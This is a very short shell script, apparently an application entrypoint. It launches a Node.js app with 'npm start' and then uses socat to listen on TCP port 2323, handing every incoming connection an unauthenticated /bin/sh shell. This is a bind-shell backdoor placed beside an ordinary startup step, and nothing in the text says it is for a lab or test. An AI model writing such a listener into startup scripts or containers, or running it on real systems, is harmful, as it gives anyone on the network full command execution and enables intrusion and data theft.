#!/bin/sh
npm start &
socat TCP-LISTEN:2323,reuseaddr,fork EXEC:/bin/sh
